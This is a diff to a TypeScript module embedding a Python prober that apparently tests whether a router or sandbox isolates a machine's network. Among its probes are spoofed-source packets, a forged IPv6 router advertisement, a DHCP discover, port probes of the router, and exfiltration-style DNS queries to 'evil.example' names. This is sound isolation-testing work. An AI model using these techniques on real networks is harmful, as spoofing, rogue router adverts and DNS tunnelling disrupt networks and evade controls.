@@ -1,10 +1,11 @@
 /**
- * Sends from a machine, to each address, one packet or connection of each kind, marked with its kind and the phase; then asks the router for
- * names. Prints what the router answered: by question `CODE ADDRESS,ADDRESS`, or `none`. Arguments: phase, the machine's address, its
- * router, others' addresses to send from, addresses to send to.
+ * Sends from a machine, to each address, one packet or connection of each kind, marked with its kind and the phase, and what no router passes
+ * on; then asks the router for names, and tries its ports. Prints what the router answered: by question `CODE ADDRESS,ADDRESS`, or `none`; by
+ * port (`router tcp 22`) `open` or `none`. Arguments: phase, the machine's address, its router, others' addresses to send from, addresses to
+ * send to.
  */
 export const prober = `
-import json, random, socket, struct, sys, threading
+import json, random, socket, struct, sys, threading, time
 phase, own, router, pretended, goals = sys.argv[1], sys.argv[2], sys.argv[3], json.loads(sys.argv[4]), json.loads(sys.argv[5])
 raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
 def mark(kind): return ("rw:%s.%s;" % (kind, phase)).encode()
@@ -20,10 +21,9 @@ def packet(goal, number, body, source=own, options=b"", ttl=64):
 def udp(goal, port, kind, **more):
     body = mark(kind)
     packet(goal, 17, struct.pack("!HHHH", random.randrange(20000, 60000), port, 8 + len(body), 0) + body, **more)
-def syn(goal, kind, source=own):
+def syn(goal, kind, source=own, port=80):
     body = mark(kind)
-    head = lambda check: struct.pack("!HHIIBBHHH", 0, 0, 7, 0, 0x50, 2, 1024, check, 0)
-    ports = struct.pack("!HH", random.randrange(20000, 60000), 80)
+    ports = struct.pack("!HH", random.randrange(20000, 60000), port)
     seg = ports + struct.pack("!IIBBHHH", 7, 0, 0x50, 2, 1024, 0, 0) + body
     check = total(socket.inet_aton(source) + socket.inet_aton(goal) + struct.pack("!BBH", 0, 6, len(seg)) + seg)
     packet(goal, 6, seg[:16] + struct.pack("!H", check) + seg[18:], source)
@@ -36,7 +36,50 @@ def connect(goal, port):
         with socket.create_connection((goal, port), 3) as c:
             c.sendall(mark("tcp%d" % port)); c.recv(100)
     except OSError: pass
-threads = []
+def connected(port):
+    try:
+        with socket.create_connection((router, port), 5): said["router tcp %d" % port] = "open"
+    except OSError: said["router tcp %d" % port] = "none"
+def leased():
+    # a request for an address, which every host on the link may answer
+    wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800))
+    wire.bind(("eth0", 0)); wire.settimeout(0.5)
+    card = wire.getsockname()[4]
+    body = struct.pack("!BBBBIHH16s16s192s4s", 1, 1, 6, 0, 7, 0, 0x8000, b"", card, b"", b"\\x63\\x82\\x53\\x63") + b"\\x35\\1\\1\\x0c" + bytes([len(mark("dhcp"))]) + mark("dhcp") + b"\\xff"
+    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 28 + len(body), 7, 0, 64, 17, 0, b"\\0" * 4, b"\\xff" * 4)
+    wire.send(b"\\xff" * 6 + card + b"\\x08\\0" + head[:10] + struct.pack("!H", total(head)) + head[12:] + struct.pack("!HHHH", 68, 67, 8 + len(body), 0) + body)
+    said["router udp 67"] = "none"
+    end = time.monotonic() + 5
+    while time.monotonic() < end:
+        try: frame = wire.recv(2000)
+        except OSError: continue
+        if frame[23] == 17 and frame[34:38] == b"\\0\\x43\\0\\x44": said["router udp 67"] = "open"
+def neighbourly():
+    # IPv6 as a machine that speaks it would, to the card of the router; an advertisement that it is a router; and what stays on a link
+    wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
+    wire.bind(("eth0", 0))
+    card = wire.getsockname()[4]
+    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"", (router, 9))
+    gateway = b"\\xff" * 6
+    for line in open("/proc/net/arp"):
+        if line.split()[0] == router: gateway = bytes.fromhex(line.split()[3].replace(":", ""))
+    def six(number, source, goal, body, to):
+        ends = socket.inet_pton(socket.AF_INET6, source) + socket.inet_pton(socket.AF_INET6, goal)
+        at = 6 if number == 17 else 2
+        check = total(ends + struct.pack("!II", len(body), number) + body)
+        wire.send(to + card + b"\\x86\\xdd" + struct.pack("!IHBB", 0x60000000, len(body), number, 255) + ends + body[:at] + struct.pack("!H", check) + body[at + 2:])
+    def six_udp(source, goal, port, kind, to):
+        six(17, source, goal, struct.pack("!HHHH", 40000, port, 8 + len(mark(kind)), 0) + mark(kind), to)
+    six_udp("2001:db8:2::2", "2001:db8:1::2", 80, "six", gateway)
+    six_udp("fe80::7", "ff02::fb", 5353, "mdns6", b"\\x33\\x33\\0\\0\\0\\xfb")
+    six(58, "fe80::7", "ff02::1", struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 1800, 0, 0) + mark("advert"), b"\\x33\\x33\\0\\0\\0\\1")
+    for group, port, kind in (("224.0.0.251", 5353, "mdns"), ("239.255.255.250", 1900, "ssdp"), ("255.255.255.255", 80, "broadcast")):
+        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1); s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 32)
+        s.sendto(mark(kind), (group, port))
+said = {}
+threads = [threading.Thread(target=connected, args=(port,)) for port in (22, 80, 3000)] + [threading.Thread(target=leased)]
+neighbourly()
 for goal in goals:
     for port in (53, 80, 123, 443): udp(goal, port, "udp%d" % port)
     udp(goal, 80, "options", options=b"\\x94\\x04\\0\\0")
@@ -46,11 +89,12 @@ for goal in goals:
     syn(goal, "syn")
     icmp(goal, "icmp"); icmp(goal, "bigicmp", 1200)
     for number in (4, 41, 47, 50, 132, 136): packet(goal, number, b"\\0" * 16 + mark("proto%d" % number))
+    udp(goal, 80, "ttl1", ttl=1)
+    for port in (22, 111, 2049, 3128, 5900, 8006, 8080): syn(goal, "port%d" % port, port=port)
     for source in pretended:
         udp(goal, 80, "from" + source, source=source); syn(goal, "synfrom" + source, source)
     for port in (53, 80, 443, 853): threads.append(threading.Thread(target=connect, args=(goal, port)))
 
-said = {}
 def ask(name, kind=1, tcp=False):
     key = name + " " + str(kind) + (" tcp" if tcp else "")
     query = struct.pack("!HHHHHH", random.randrange(65536), 0x100, 1, 0, 0, 0) + b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\\0" + struct.pack("!HH", kind, 1)
@@ -66,16 +110,14 @@ def ask(name, kind=1, tcp=False):
         said[key] = "none"; return
     found, at = [], 12 + len(query) - 12
     for _ in range(struct.unpack("!H", data[6:8])[0]):
-        if data[at] & 0xc0: at += 2
-        else:
-            while data[at]: at += 1 + data[at]
-            at += 1
+        while data[at] and data[at] & 0xc0 == 0: at += 1 + data[at]
+        at += 2 if data[at] else 1
         rtype, _, _, size = struct.unpack("!HHIH", data[at:at + 10])
         if rtype == 1: found.append(socket.inet_ntoa(data[at + 10:at + 14]))
         at += 10 + size
     said[key] = str(data[3] & 15) + " " + ",".join(sorted(found))
 questions = [("t%d.%s.evil.example" % (kind, phase), kind) for kind in (1, 28, 16, 255, 10, 5, 15, 65)]
-questions += [("x" * 63 + "." + phase + ".evil.example", 1), ("web", 1), ("allowed.example", 1), ("sub.allowed.example", 1), ("notallowed.example", 1), ("rebind.allowed.example", 1), ("moving.example", 1), ("secret" + phase, 16)]
+questions += [("x" * 63 + "." + phase + ".evil.example", 1), ("web", 1), ("allowed.example", 1), ("sub.allowed.example", 1), ("notallowed.example", 1), ("rebind.allowed.example", 1), ("moving.example", 1), ("chain.allowed.example", 1), ("inward.allowed.example", 1), ("secret" + phase, 16)]
 threads += [threading.Thread(target=ask, args=q) for q in questions]
 threads.append(threading.Thread(target=ask, args=("tcp." + phase + ".evil.example", 16, True)))
 for t in threads: t.start()
@@ -122,7 +164,7 @@ raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
 for goal in goals: raw.sendto(struct.pack("!BBH", 11, 0, total(struct.pack("!BBH", 11, 0, 0) + rest)) + rest, (goal, 0))
 `
 
-/** The kinds of packets and connections that the prober sends. */
+/** The kinds of packets and connections that the prober sends, and routers pass on where they may. */
 export const kinds: readonly string[] = [
   ...[53, 80, 123, 443].map((port) => `udp${port}`),
   ...[53, 80, 443, 853].map((port) => `tcp${port}`),
@@ -134,6 +176,9 @@ export const kinds: readonly string[] = [
   "icmp",
   "bigicmp",
 ]
+
+/** What the prober sends that no router passes on, whatever may pass. */
+export const local: readonly string[] = ["ttl1", "six", "mdns6", "advert", "mdns", "ssdp", "broadcast", "dhcp"]
 
 /**
  * Flows that begin once and go on, each packet marked with `flow-KIND-NUMBER`: a TCP connection and a UDP one to each address. Never opens a
